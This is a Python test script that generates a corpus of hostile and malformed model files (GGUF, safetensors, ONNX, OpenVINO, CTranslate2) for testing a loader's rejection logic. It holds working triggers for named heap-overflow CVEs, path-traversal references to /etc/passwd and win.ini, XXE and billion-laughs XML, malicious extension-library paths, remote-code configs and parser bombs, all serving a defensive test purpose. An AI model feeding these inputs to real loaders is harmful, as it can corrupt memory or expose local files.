"""Makes hostile and broken model files, each named after what it proves: ``python tests/hostile/make_models.py FOLDER``.

GGUF: CVE-2024-21802, -21825, -21836, -23496 and -23605 (heap overflows in the loader, found by Talos; CVE-2024-25664 to
-25668 are the same places, found by Databricks), CVE-2025-53630 and CVE-2026-27940 (sums of sizes wrap around),
CVE-2026-33298 (a product of dimensions wraps around), CVE-2026-7482 (a tensor is larger than the file). ONNX:
CVE-2022-25882 and CVE-2024-27318 (weights outside the model's folder). Names without a number prove a rule of our own.
"""

from __future__ import annotations

import json
import struct
import sys
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from model_files import (
    PAIRS,
    PARAMETER,
    SAFETENSORS,
    VARIABLES,
    Pair,
    constant,
    ct2_file,
    entry,
    external,
    gguf_file,
    ir_file,
    onnx_file,
    onnx_function,
    onnx_graph,
    onnx_node,
    onnx_tensor,
    part,
    safetensors_file,
)

BAD, CUT, UNSAFE = "bad_model_file", "truncated_model_file", "unsafe_model_file"
Made = Callable[[], bytes | dict[str, bytes]]
MOST = (1 << 64) - 1


def pairs_with(*more: Pair, without: Sequence[str] = ()) -> list[Pair]:
    replaced = {*without, *(str(key) for key, _, _ in more)}
    return [pair for pair in PAIRS if pair[0] not in replaced] + list(more)


def one_tensor(shape: Sequence[int], kind: str | int = "F32", name: str | bytes = "t", **options: Any) -> bytes:
    return gguf_file(tensors=[(name, shape, kind)], **{"data": bytes(1 << 16), **options})


def after_header(raw: bytes, *, n_kv: int = 1) -> bytes:
    """Return a GGUF file that goes on with these bytes after its counts."""
    return b"GGUF" + struct.pack("<IQQ", 3, 0, n_kv) + raw


def pair_of(raw: bytes, key: bytes = b"k") -> bytes:
    return after_header(struct.pack("<Q", len(key)) + key + raw + bytes(64))


def gguf() -> dict[str, tuple[str, Made]]:
    nested = struct.pack("<IIQ", 9, 9, 1)
    two = [("a", (64,), "F32"), ("b", (64,), "F32")]
    quarters = [(name, ((1 << 62) - 64,), "I8") for name in "abcd"]  # 256 bytes less than 2 to the 64 together
    return {
        "cve-2024-23605-n-kv.gguf": (BAD, lambda: gguf_file(n_kv=(1 << 64) // 48 + 2)),
        "cve-2024-21836-n-tensors.gguf": (BAD, lambda: gguf_file(n_tensors=(1 << 64) // 88 + 2)),
        "cve-2024-21802-n-dims.gguf": (BAD, lambda: gguf_file(tensors=[("t", (1,) * 5, "F32")])),
        "cve-2024-21802-n-dims-only-said.gguf": (BAD, lambda: gguf_file(n_dims=1 << 20)),
        "cve-2024-23496-string-length.gguf": (BAD, lambda: after_header(struct.pack("<Q", MOST) + bytes(64))),
        "cve-2024-23496-value-length.gguf": (CUT, lambda: pair_of(struct.pack("<IQ", 8, MOST))),
        "cve-2024-21825-array-of-strings.gguf": (BAD, lambda: pair_of(struct.pack("<IIQ", 9, 8, 1 << 61))),
        "cve-2024-21825-string-in-array.gguf": (BAD, lambda: pair_of(struct.pack("<IIQQ", 9, 8, 1, MOST - 7))),
        "cve-2024-21825-array-of-numbers.gguf": (BAD, lambda: pair_of(struct.pack("<IIQ", 9, 10, 1 << 61))),
        "cve-2025-53630-sum-of-sizes-wraps.gguf": (CUT, lambda: gguf_file(tensors=[*quarters, ("e", (512,), "I8")], data=bytes(512))),
        "cve-2026-27940-sum-with-overhead-wraps.gguf": (CUT, lambda: gguf_file(tensors=quarters, data=bytes(512))),
        "cve-2026-33298-product-of-dimensions-wraps.gguf": (BAD, lambda: one_tensor((1024, (1 << 54) + 1))),
        "cve-2026-7482-tensor-larger-than-file.gguf": (CUT, lambda: one_tensor((1 << 20, 1 << 4))),
        "dimensions-that-wrap-to-negative.gguf": (BAD, lambda: one_tensor(((1 << 63) - 1, 2), "I8")),
        "zero-dimension.gguf": (BAD, lambda: one_tensor((0, 4))),
        "no-dimensions.gguf": (BAD, lambda: one_tensor(())),
        "row-is-no-whole-block.gguf": (BAD, lambda: one_tensor((33, 2), "Q4_0")),
        "unknown-type.gguf": (BAD, lambda: one_tensor((32,), 4)),
        "negative-type.gguf": (BAD, lambda: one_tensor((32,), (1 << 32) - 1)),
        "name-of-64-bytes.gguf": (BAD, lambda: one_tensor((4,), name="n" * 64)),
        "name-with-nul.gguf": (BAD, lambda: one_tensor((4,), name=b"a\0b")),
        "name-not-utf8.gguf": (BAD, lambda: one_tensor((4,), name=b"\xff\xfe")),
        "two-tensors-of-one-name.gguf": (BAD, lambda: gguf_file(tensors=[("t", (8,), "F32")] * 2)),
        "tensors-overlap.gguf": (BAD, lambda: gguf_file(tensors=two, offsets={1: 128})),
        "gap-between-tensors.gguf": (BAD, lambda: gguf_file(tensors=two, offsets={1: 512}, data=bytes(1024))),
        "offset-not-aligned.gguf": (BAD, lambda: gguf_file(tensors=two, offsets={0: 4})),
        "offset-that-wraps.gguf": (BAD, lambda: gguf_file(tensors=two, offsets={1: MOST - 255})),
        "bytes-behind-the-last-tensor.gguf": (BAD, lambda: gguf_file() + bytes(4096)),
        "alignment-zero.gguf": (BAD, lambda: gguf_file(pairs_with(("general.alignment", "u32", 0)))),
        "alignment-no-power-of-two.gguf": (BAD, lambda: gguf_file(pairs_with(("general.alignment", "u32", 48)))),
        "alignment-huge.gguf": (BAD, lambda: gguf_file(pairs_with(("general.alignment", "u32", 1 << 31)))),
        "alignment-is-signed.gguf": (BAD, lambda: gguf_file(pairs_with(("general.alignment", "i32", 32)))),
        "alignment-is-text.gguf": (BAD, lambda: gguf_file(pairs_with(("general.alignment", "s", "32")))),
        "array-in-array.gguf": (BAD, lambda: pair_of(nested + struct.pack("<IQ", 4, 1))),
        "arrays-1000-deep.gguf": (BAD, lambda: pair_of(nested * 1000)),
        "key-twice.gguf": (BAD, lambda: gguf_file([*PAIRS, ("general.name", "s", "Other")])),
        "key-empty.gguf": (BAD, lambda: gguf_file([*PAIRS, ("", "u8", 1)])),
        "key-of-control-characters.gguf": (BAD, lambda: gguf_file([*PAIRS, ("a\x1b[2J", "u8", 1)])),
        "value-of-no-type.gguf": (BAD, lambda: gguf_file([*PAIRS, ("a", "raw", struct.pack("<IQ", 13, 0))])),
        "truth-value-7.gguf": (BAD, lambda: gguf_file([*PAIRS, ("a", "bool", 7)])),
        "token-of-70000-bytes.gguf": (BAD, lambda: gguf_file(pairs_with(("tokenizer.ggml.tokens", "[s]", ["a", "b", "c" * 70_000])))),
        "fewer-token-types-than-tokens.gguf": (BAD, lambda: gguf_file(pairs_with(("tokenizer.ggml.token_type", "[i32]", [1])))),
        "scores-without-tokens.gguf": (BAD, lambda: gguf_file([*PAIRS, ("tokenizer.ggml.scores", "[f32]", [0.0] * 9)])),
        "scores-are-texts.gguf": (BAD, lambda: gguf_file([*PAIRS, ("tokenizer.ggml.scores", "[s]", ["a", "b", "c"])])),
        "tokens-are-numbers.gguf": (BAD, lambda: gguf_file(pairs_with(("tokenizer.ggml.tokens", "[u8]", [1, 2, 3])))),
        "end-token-outside-the-vocabulary.gguf": (BAD, lambda: gguf_file(pairs_with(("tokenizer.ggml.eos_token_id", "u32", 3)))),
        "no-architecture.gguf": (BAD, lambda: gguf_file(pairs_with(without=["general.architecture"]))),
        "architecture-is-a-path.gguf": (BAD, lambda: gguf_file(pairs_with(("general.architecture", "s", "../llama")))),
        "blocks-beyond-the-loader.gguf": (BAD, lambda: gguf_file(pairs_with(("llama.block_count", "u32", 513)))),
        "heads-negative.gguf": (BAD, lambda: gguf_file(pairs_with(("llama.attention.head_count", "i32", -1)))),
        "heads-for-other-blocks.gguf": (BAD, lambda: gguf_file(pairs_with(("llama.attention.head_count", "[u32]", [4] * 9)))),
        "split-over-files.gguf": (UNSAFE, lambda: gguf_file([*PAIRS, ("split.count", "u16", 3)])),
        "big-endian.gguf": (BAD, lambda: b"GGUF" + struct.pack(">IQQ", 3, 0, 0) + bytes(64)),
        "version-1.gguf": (BAD, lambda: gguf_file(version=1)),
        "version-4.gguf": (BAD, lambda: gguf_file(version=4)),
        "empty.gguf": (CUT, lambda: b""),
        "cut-in-the-metadata.gguf": (CUT, lambda: gguf_file()[:500]),
        "cut-in-the-weights.gguf": (CUT, lambda: gguf_file()[:-8192]),
        "program.gguf": (BAD, lambda: b"\x7fELF" + bytes(100)),
    }  # fmt: skip


def configured() -> dict[str, tuple[str, Made]]:
    """Safetensors of a language model, beside which a configuration asks for more than numbers."""

    def config(told: Any) -> Made:
        text = told if isinstance(told, bytes) else json.dumps(told).encode()
        weights = safetensors_file({"a": entry("F32", (8,), 0, 32)}, bytes(32))
        return lambda: {"model.safetensors": weights, "config.json": text}

    good = {"model_type": "llama", "num_hidden_layers": 2, "hidden_size": 64}
    remote = {"AutoModelForCausalLM": "someone/repository--modeling.Model"}
    return {
        "code-of-its-own": (UNSAFE, config({**good, "auto_map": remote})),
        "code-in-an-inner-part": (UNSAFE, config({**good, "rope_scaling": {"auto_map": remote}})),
        "pipelines-of-its-own": (UNSAFE, config({**good, "custom_pipelines": {"x": {"impl": "a.B"}}})),
        "loader-of-quantised-weights": (UNSAFE, config({**good, "quantization_config": {"quant_method": "awq"}})),
        "family-unknown": (BAD, config({**good, "model_type": "mamba"})),
        "family-is-a-list": (BAD, config({**good, "model_type": ["llama"]})),
        "family-missing": (BAD, config({"num_hidden_layers": 2})),
        "layers-without-end": (BAD, config({**good, "num_hidden_layers": 1 << 40})),
        "width-negative": (BAD, config({**good, "hidden_size": -1})),
        "width-is-a-text": (BAD, config({**good, "hidden_size": "64"})),
        "number-is-nan": (BAD, config(b'{"model_type":"llama","rms_norm_eps":NaN}')),
        "number-without-end": (BAD, config(b'{"model_type":"llama","rope_theta":1e400}')),
        "key-twice": (BAD, config(b'{"model_type":"llama","model_type":"mamba"}')),
        "nested-deep": (BAD, config(b'{"model_type":"llama","a":' + b"[" * 5000 + b"]" * 5000 + b"}")),
        "a-list": (BAD, config([good])),
        "not-json": (BAD, config(b"\x80\x04\x95cbuiltins\neval")),
        "of-2-mb": (BAD, config(b'{"model_type":"llama"' + b" " * (2 << 20) + b"}")),
        "weights-cut": (CUT, lambda: {**config(good)(), "model.safetensors": b"\x02"}),  # type: ignore[dict-item]
    }  # fmt: skip


def safetensors() -> dict[str, tuple[str, Made]]:
    def file(header: Any, data: int = 32, **options: Any) -> Made:
        return lambda: safetensors_file(header, bytes(data), **options)

    one = {"a": entry("F32", (8,), 0, 32)}
    text = '{"a":{"dtype":"F32","shape":[8],"data_offsets":[0,32]}'
    return {
        "header-length-2-to-the-63.safetensors": (BAD, file(one, length=1 << 63)),
        "header-length-behind-the-end.safetensors": (CUT, file(one, length=4000)),
        "header-of-100-mb-said.safetensors": (BAD, file(one, length=100_000_000)),
        "header-of-5-mb.safetensors": (BAD, file(b"{" + b" " * (5 << 20) + b"}", 0)),
        "header-bomb-of-brackets.safetensors": (BAD, file(b"{" + b'"a":' + b"[" * 500_000, 0)),
        "header-nested-100000-deep.safetensors": (BAD, file(b'{"a":' * 100_000 + b"1" + b"}" * 100_000, 0)),
        "header-of-a-million-values.safetensors": (BAD, file(b'{"a":[' + b"1," * 1_000_000 + b"1]}", 0)),
        "number-of-a-million-digits.safetensors": (BAD, file(b'{"a":' + b"1" * 1_000_000 + b"}", 0)),
        "name-twice.safetensors": (BAD, file(text + "," + text[1:] + "}")),
        "key-twice-in-an-entry.safetensors": (BAD, file('{"a":{"dtype":"F32","dtype":"F64","shape":[4],"data_offsets":[0,32]}}')),
        "tensors-overlap.safetensors": (BAD, file({"a": entry("U8", (20,), 0, 20), "b": entry("U8", (20,), 12, 32)})),
        "gap-between-tensors.safetensors": (BAD, file({"a": entry("U8", (8,), 0, 8), "b": entry("U8", (8,), 24, 32)})),
        "bytes-behind-the-last-tensor.safetensors": (BAD, file(one, 64)),
        "cut-in-the-weights.safetensors": (CUT, file(one, 20)),
        "offsets-backwards.safetensors": (BAD, file({"a": entry("F32", (8,), 32, 0)})),
        "offset-negative.safetensors": (BAD, file({"a": entry("F32", (8,), -32, 0)})),
        "offset-2-to-the-64.safetensors": (BAD, file({"a": entry("U8", (8,), 1 << 64, (1 << 64) + 8)})),
        "product-of-shape-wraps.safetensors": (BAD, file({"a": entry("F32", (1 << 62, 4, 2), 0, 32)})),
        "shape-of-a-float.safetensors": (BAD, file('{"a":{"dtype":"F32","shape":[8.0],"data_offsets":[0,32]}}')),
        "shape-of-a-truth-value.safetensors": (BAD, file('{"a":{"dtype":"U8","shape":[true],"data_offsets":[0,1]}}', 1)),
        "shape-is-nan.safetensors": (BAD, file('{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,32]}}')),
        "type-is-pickle.safetensors": (BAD, file({"a": entry("OBJECT", (8,), 0, 32)})),
        "type-is-a-list.safetensors": (BAD, file('{"a":{"dtype":["F32"],"shape":[8],"data_offsets":[0,32]}}')),
        "entry-with-more.safetensors": (BAD, file({"a": {**one["a"], "file": "/etc/passwd"}})),
        "metadata-nested.safetensors": (BAD, file({"__metadata__": {"a": {"b": "c"}}, **one})),
        "header-is-a-list.safetensors": (BAD, file("[]", 0)),
        "header-begins-with-a-space.safetensors": (BAD, file(" " + text + "}")),
        "header-not-utf8.safetensors": (BAD, file(b'{"\xff":1}', 0)),
        "lone-surrogate.safetensors": (BAD, file('{"\\ud800":{"dtype":"F32","shape":[8],"data_offsets":[0,32]}}')),
        "type-and-size-disagree.safetensors": (BAD, file({"a": entry("F64", (8,), 0, 32)})),
        "too-short.safetensors": (CUT, lambda: b"\x02\0\0"),
        "pickle-named.safetensors": (BAD, lambda: b"\x80\x04\x95" + bytes(200)),
        "good-but-cut.safetensors": (CUT, lambda: safetensors_file(SAFETENSORS, bytes(32))[:100]),
    }  # fmt: skip


def onnx() -> dict[str, tuple[str, Made]]:
    def weight(*weights: bytes, **others: bytes) -> Made:
        return lambda: {"model.onnx": onnx_file(onnx_graph(weights=weights)), **others}

    def elsewhere(
        location: str, offset: str = "0", length: str = "24", dims: Sequence[int] = (2, 3), **others: bytes
    ) -> Made:
        said = external(location=location, offset=offset, length=length)
        return weight(onnx_tensor("w", dims, raw=None, more=said), **others)

    def node(**options: Any) -> Made:
        return lambda: onnx_file(onnx_graph(onnx_node(**options)))

    def deep(levels: int) -> bytes:
        graph = onnx_graph()
        for _ in range(levels):
            graph = onnx_graph(onnx_node("If", more=part(5, part(1, "then_branch") + part(6, graph))))
        return onnx_file(graph)

    def value(inner: bytes) -> Made:
        return lambda: onnx_file(onnx_graph(more=part(13, part(1, "v") + part(2, inner))))

    kind = b""
    for _ in range(60):
        kind = part(4, part(1, kind))
    there = {"weights.bin": bytes(24)}
    loop = onnx_function("f", onnx_node("g", "own")) + onnx_function("g", onnx_node("f", "own"))
    return {
        "cve-2022-25882-weights-in-parent.onnx": (UNSAFE, elsewhere("../../../../etc/passwd")),
        "cve-2024-27318-weights-in-parent-of-a-folder.onnx": (UNSAFE, elsewhere("folder/../../../etc/passwd")),
        "external-absolute.onnx": (UNSAFE, elsewhere("/etc/passwd")),
        "external-backslashes.onnx": (UNSAFE, elsewhere("..\\..\\windows\\win.ini")),
        "external-drive.onnx": (UNSAFE, elsewhere("C:secrets")),
        "external-device.onnx": (UNSAFE, elsewhere("/dev/zero")),
        "external-address-in-memory.onnx": (UNSAFE, elsewhere("*/_ORT_MEM_ADDR_/*", offset="140737488355328")),
        "external-not-part-of-the-model.onnx": (UNSAFE, elsewhere("link-to-a-secret.bin", **there)),
        "external-itself.onnx": (UNSAFE, elsewhere("model.onnx")),
        "external-empty-name.onnx": (UNSAFE, elsewhere("")),
        "external-behind-the-end.onnx": (CUT, elsewhere("weights.bin", offset="8", **there)),
        "external-offset-wraps.onnx": (BAD, elsewhere("weights.bin", offset="18446744073709551608", **there)),
        "external-offset-negative.onnx": (BAD, elsewhere("weights.bin", offset="-8", **there)),
        "external-length-disagrees.onnx": (BAD, elsewhere("weights.bin", length="8", **there)),
        "external-and-inside.onnx": (BAD, weight(onnx_tensor(more=external(location="weights.bin")), **there)),
        "external-key-twice.onnx": (BAD, weight(onnx_tensor(raw=None, more=external(location="weights.bin") + part(13, part(1, "location") + part(2, "/etc/passwd"))), **there)),
        "external-key-unknown.onnx": (BAD, weight(onnx_tensor(raw=None, more=external(location="weights.bin", basepath="/etc")), **there)),
        "external-without-saying-so.onnx": (BAD, weight(onnx_tensor(raw=None, more=part(13, part(1, "location") + part(2, "weights.bin"))), **there)),
        "raw-shorter-than-dimensions.onnx": (BAD, weight(onnx_tensor(dims=(1 << 20, 1 << 20)))),
        "product-of-dimensions-wraps.onnx": (BAD, weight(onnx_tensor(dims=(1 << 61, 1 << 61)))),
        "dimension-negative.onnx": (BAD, weight(onnx_tensor(dims=((1 << 64) - 1, 6)))),
        "100-dimensions.onnx": (BAD, weight(onnx_tensor(dims=(1,) * 100))),
        "numbers-missing.onnx": (BAD, weight(onnx_tensor(raw=None))),
        "numbers-twice.onnx": (BAD, weight(onnx_tensor(more=part(4, bytes(24))))),
        "numbers-in-another-field.onnx": (BAD, weight(onnx_tensor(raw=None, more=part(7, bytes(6))))),
        "raw-data-twice.onnx": (BAD, weight(onnx_tensor(more=part(9, bytes(24))))),
        "texts-as-raw-data.onnx": (BAD, weight(onnx_tensor(type=8))),
        "type-unknown.onnx": (BAD, weight(onnx_tensor(type=99))),
        "segment.onnx": (BAD, weight(onnx_tensor(more=part(3, part(1, 0) + part(2, 9))))),
        "two-weights-of-one-name.onnx": (BAD, weight(onnx_tensor(), onnx_tensor())),
        "weight-without-name.onnx": (BAD, weight(onnx_tensor(""))),
        "value-made-twice.onnx": (BAD, lambda: onnx_file(onnx_graph(onnx_node(), onnx_node()))),
        "value-has-a-weights-name.onnx": (BAD, node(outputs=("w",))),
        "operator-of-a-library.onnx": (UNSAFE, node(domain="com.evil")),
        "operator-in-python.onnx": (UNSAFE, node(op="PyOp", domain="pyopmulti")),
        "operator-that-loads-a-file.onnx": (UNSAFE, node(op="EPContext", domain="com.microsoft")),
        "operator-of-a-library-in-a-branch.onnx": (UNSAFE, lambda: onnx_file(onnx_graph(onnx_node("If", more=part(5, part(1, "then_branch") + part(6, onnx_graph(onnx_node("X", "com.evil")))))))),
        "operator-of-a-library-in-a-function.onnx": (UNSAFE, lambda: onnx_file(onnx_graph(onnx_node("f", "own")), more=onnx_function("f", onnx_node("X", "com.evil")))),
        "function-that-is-not-there.onnx": (UNSAFE, lambda: onnx_file(onnx_graph(onnx_node("f", "own")), more=onnx_function("g", onnx_node()))),
        "functions-in-a-circle.onnx": (BAD, lambda: onnx_file(onnx_graph(onnx_node("f", "own")), more=loop)),
        "function-of-itself.onnx": (BAD, lambda: onnx_file(onnx_graph(onnx_node("f", "own")), more=onnx_function("f", onnx_node("f", "own")))),
        "function-takes-a-built-in-name.onnx": (UNSAFE, lambda: onnx_file(more=onnx_function("MatMul", onnx_node(), domain="ai.onnx"))),
        "function-twice.onnx": (BAD, lambda: onnx_file(more=onnx_function("f", onnx_node()) * 2)),
        "graphs-50-deep.onnx": (BAD, lambda: deep(50)),
        "types-60-deep.onnx": (BAD, value(kind)),
        "type-opaque.onnx": (UNSAFE, value(part(7, part(1, "evil") + part(2, "thing")))),
        "sparse-weights.onnx": (UNSAFE, lambda: onnx_file(onnx_graph(more=part(15, part(1, onnx_tensor()))))),
        "training-graph.onnx": (UNSAFE, lambda: onnx_file(more=part(20, part(1, onnx_graph())))),
        "graph-twice.onnx": (BAD, lambda: onnx_file(more=part(7, onnx_graph()))),
        "operators-twice.onnx": (BAD, lambda: onnx_file(opsets=(("", 17), ("", 9)))),
        "no-operators.onnx": (BAD, lambda: onnx_file(opsets=())),
        "ir-version-2.onnx": (BAD, lambda: onnx_file(ir=2)),
        "unknown-field.onnx": (BAD, lambda: onnx_file(more=part(99, "x"))),
        "group-of-protobuf.onnx": (BAD, lambda: onnx_file(more=bytes([7 << 3 | 3]))),
        "field-0.onnx": (BAD, lambda: onnx_file(more=b"\x02\x00")),
        "number-of-11-bytes.onnx": (BAD, lambda: b"\x08" + b"\xff" * 10 + b"\x01"),
        "number-of-70-bits.onnx": (BAD, lambda: b"\x08" + b"\xff" * 9 + b"\x7f" + bytes(20)),
        "length-behind-the-end.onnx": (CUT, lambda: onnx_file()[:-2]),
        "length-2-to-the-63.onnx": (CUT, lambda: part(1, 9) + b"\x3a" + b"\xff" * 8 + b"\x7f" + bytes(50)),
        "inner-length-beyond-its-message.onnx": (BAD, lambda: part(1, 9) + part(7, b"\x12\x70a") + bytes(200)),
        "name-of-5000-bytes.onnx": (BAD, node(op="x" * 5000)),
        "name-not-utf8.onnx": (BAD, weight(part(1, 1) + part(2, 1) + part(8, b"\xff\xfe") + part(9, bytes(4)))),
        "empty.onnx": (BAD, lambda: b""),
        "pickle-named.onnx": (BAD, lambda: b"\x80\x04\x95" + bytes(200)),
    }  # fmt: skip


def openvino() -> dict[str, tuple[str, Made]]:
    def ir(*layers: str, data: int = 24, **options: str) -> Made:
        return lambda: {"model.xml": ir_file(PARAMETER + "".join(layers), **options), "model.bin": bytes(data)}

    def layer(version: str = "opset1", inside: str = "", kind: str = "ReLU") -> str:
        return f'<layer id="1" name="l" type="{kind}" version="{version}">{inside}</layer>'

    laughs = '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "' + "&a;" * 100 + '">]>'
    outside = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = (
        '<layer id="1" name="l" type="TensorIterator" version="opset1"><body><layers>{}</layers><edges/></body></layer>'
    )
    deep = layer()
    for _ in range(20):
        deep = body.format(deep)
    return {
        "xxe.xml": (UNSAFE, ir(constant(), before=outside)),
        "billion-laughs.xml": (UNSAFE, ir(constant(), before=laughs)),
        "parameter-entity.xml": (UNSAFE, ir(constant(), before='<!DOCTYPE n [<!ENTITY % p SYSTEM "http://x.invalid/e.dtd"> %p;]>')),
        "document-type-alone.xml": (UNSAFE, ir(constant(), before="<!DOCTYPE net>")),
        "xxe-utf16.xml": (UNSAFE, lambda: {"model.xml": ir_file(before='<?xml version="1.0" encoding="UTF-16"?>' + outside).decode().encode("utf-16"), "model.bin": bytes(24)}),
        "extension-library.xml": (UNSAFE, ir(constant(), more='<extension library="/tmp/libevil.so"/>')),
        "extension-in-a-layer.xml": (UNSAFE, ir(layer(inside='<extension path="libevil.so"/>'), edges="")),
        "operator-of-an-extension.xml": (UNSAFE, ir(layer("extension"), edges="")),
        "operator-without-a-set.xml": (UNSAFE, ir(layer(""), edges="")),
        "operator-of-an-extension-in-a-body.xml": (UNSAFE, ir(body.format(layer("experimental")), edges="")),
        "external-include.xml": (UNSAFE, ir(constant(), more='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')),
        "constant-outside-the-weights.xml": (CUT, ir(constant(offset=8))),
        "constant-offset-wraps.xml": (BAD, ir(constant(offset="18446744073709551608"))),
        "constant-offset-negative.xml": (BAD, ir(constant(offset="-8"))),
        "constant-size-disagrees.xml": (BAD, ir(constant(size=4))),
        "constant-shape-wraps.xml": (BAD, ir(constant(shape="4294967296,4294967296,2", size=0))),
        "constant-shape-negative.xml": (BAD, ir(constant(shape="-1,3"))),
        "constant-of-unknown-type.xml": (BAD, ir(constant(type="f33"))),
        "constants-overlap.xml": (BAD, ir(constant(1), constant(2, offset=12), data=64)),
        "two-layers-of-one-number.xml": (BAD, ir(constant(0))),
        "edge-to-nowhere.xml": (BAD, ir(constant(), edges='<edge from-layer="0" from-port="0" to-layer="7" to-port="0"/>')),
        "bodies-20-deep.xml": (BAD, ir(deep, edges="")),
        "elements-1000-deep.xml": (BAD, ir(constant(), more="<rt_info>" + "<a>" * 1000 + "</a>" * 1000 + "</rt_info>")),
        "attribute-of-3-mb.xml": (BAD, ir(constant(), more='<rt_info a="' + "x" * (3 << 20) + '"/>')),
        "1000-attributes.xml": (BAD, ir(constant(), more="<rt_info " + " ".join(f'a{n}=""' for n in range(1000)) + "/>")),
        "dimension-of-words.xml": (BAD, ir(constant().replace("<dim>2", "<dim>two"))),
        "text-between-elements.xml": (BAD, ir(constant(), more="surprise")),
        "version-7.xml": (BAD, ir(constant(), version="7")),
        "no-layers.xml": (BAD, lambda: {"model.xml": ir_file("", ""), "model.bin": b""}),
        "another-root.xml": (UNSAFE, lambda: {"model.xml": b"<html/>", "model.bin": b""}),
        "cut.xml": (CUT, lambda: {"model.xml": ir_file()[:-30], "model.bin": bytes(24)}),
        "empty.xml": (CUT, lambda: {"model.xml": b"", "model.bin": b""}),
        "no-weights-beside-it.xml": (CUT, lambda: {"model.xml": ir_file()}),
        "weights-cut.xml": (CUT, ir(constant(), data=20)),
        "two-roots.xml": (BAD, lambda: {"model.xml": ir_file() + b"<net/>", "model.bin": bytes(24)}),
        "unknown-encoding.xml": (BAD, ir(constant(), before='<?xml version="1.0" encoding="rot-13"?>')),
        "program.xml": (BAD, lambda: {"model.xml": b"\x7fELF" + bytes(99), "model.bin": b""}),
    }  # fmt: skip


def ctranslate2() -> dict[str, tuple[str, Made]]:
    def file(*variables: Any, **options: Any) -> Made:
        return lambda: ct2_file(variables or VARIABLES, **options)

    return {
        "more-bytes-than-the-shape-has.bin": (BAD, file(("a", (2,), "int8", 1 << 20))),
        "fewer-bytes-than-the-shape-has.bin": (BAD, file(("a", (1 << 16, 1 << 16), "float32", 4))),
        "product-of-shape-wraps.bin": (BAD, file(("a", (1 << 31, 1 << 31, 4), "float32", 0))),
        "variable-behind-the-end.bin": (CUT, file(("a", (1 << 20,), "int8", None), aliases=())),
        "unknown-type.bin": (BAD, file(("a", (2,), 77, None))),
        "255-dimensions.bin": (BAD, file(("a", (1,) * 255, "int8", None))),
        "count-of-variables.bin": (BAD, file(n_variables=(1 << 32) - 1)),
        "count-of-aliases.bin": (BAD, file(n_aliases=(1 << 32) - 1)),
        "name-twice.bin": (BAD, file(VARIABLES[0], VARIABLES[0], aliases=())),
        "name-empty.bin": (BAD, file(("", (2,), "int8", None))),
        "name-is-a-path-with-spaces.bin": (BAD, file(("a b", (2,), "int8", None))),
        "name-without-nul.bin": (BAD, lambda: ct2_file().replace(b"WhisperSpec\0", b"WhisperSpecX")),
        "alias-of-nothing.bin": (BAD, file(aliases=[("a", "b")])),
        "alias-hides-a-variable.bin": (BAD, file(aliases=[(str(VARIABLES[0][0]), "encoder/scalar")])),
        "alias-twice.bin": (BAD, file(aliases=[("a", "encoder/scalar")] * 2)),
        "bytes-behind-the-end.bin": (BAD, lambda: ct2_file() + b"\0"),
        "version-3.bin": (BAD, file(version=3)),
        "version-7.bin": (BAD, file(version=7)),
        "cut-in-a-variable.bin": (CUT, lambda: ct2_file()[:80]),
        "cut-before-the-aliases.bin": (CUT, lambda: ct2_file(aliases=())[:-4]),
        "empty.bin": (CUT, lambda: b""),
        "pickle-named.bin": (BAD, lambda: b"\x80\x04\x95" + bytes(200)),
    }  # fmt: skip


def corpus() -> dict[str, tuple[str, str, Callable[[], Mapping[str, bytes]]]]:
    """Return file name -> (format, code it is refused with, its files: name in the model's folder -> bytes)."""

    def files(name: str, make: Made) -> Callable[[], Mapping[str, bytes]]:
        def made() -> Mapping[str, bytes]:
            found = make()
            return found if isinstance(found, dict) else {name: found}

        return made

    rooms = {
        "gguf": gguf(),
        "safetensors": {**safetensors(), **configured()},
        "onnx": onnx(),
        "openvino": openvino(),
        "ctranslate2": ctranslate2(),
    }
    return {
        f"{room}/{name}": (room, code, files(name, make))
        for room, found in rooms.items()
        for name, (code, make) in found.items()
    }


def write_corpus(folder: Path) -> list[Path]:
    paths = []
    for name, (_, _, make) in corpus().items():
        for part_name, data in make().items():
            path = folder / name / part_name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            paths.append(path)
    return paths


if __name__ == "__main__":
    for written in write_corpus(Path(sys.argv[1])):
        print(written)
